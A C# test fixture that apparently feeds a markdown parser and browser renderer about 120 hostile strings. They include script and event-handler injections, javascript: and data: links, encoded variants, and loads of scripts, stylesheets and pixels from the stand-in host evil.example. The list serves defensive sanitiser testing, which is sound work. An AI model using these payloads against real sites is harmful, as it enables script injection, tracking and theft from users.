namespace TocAnalysis.Web.Tests.Security;

/// <summary>120 texts that want to act or to load where they are shown; for the parser and for the browser.</summary>
public static class HostileTexts
{
    /// <summary>Markup as it is written into texts by hand.</summary>
    public static IReadOnlyList<string> Markup { get; } =
    [
        "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>", "<img src=x onerror=alert(1)>", "<img src=//evil.example/pixel.png>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=//evil.example/x>", "<body onload=alert(1)>",
        "<a href=javascript:alert(1)>x</a>", "<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=//evil.example/v onerror=alert(1)></video>",
        "<style>@import '//evil.example/x.css'</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
        "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "\" onmouseover=\"alert(1)\" x=\"", "</title><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    ];

    private static readonly string[] Links =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)", "java&#x09;script:alert(1)", "javascript&colon;alert(1)", "jav&#x0A;ascript:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>",
        "file:///etc/passwd", "//evil.example/pixel.png", "https://evil.example/pixel.png \"\\\" onmouseover=alert(1) x=\\\"\"", "blob:https://evil.example/1", "feed:javascript:alert(1)", "livescript:alert(1)",
    ];

    /// <summary>All of them, as they stand and in every form of a link.</summary>
    public static IReadOnlyList<string> Vectors { get; } =
    [
        .. Markup, .. Markup.Select(m => $"> {m}"),
        .. Links.Select(l => $"[x]({l})"), .. Links.Select(l => $"![x]({l})"), .. Links.Select(l => $"<{l}>"), .. Links.Select((l, i) => $"[y][r{i}]\n\n[r{i}]: {l}"),
    ];
}
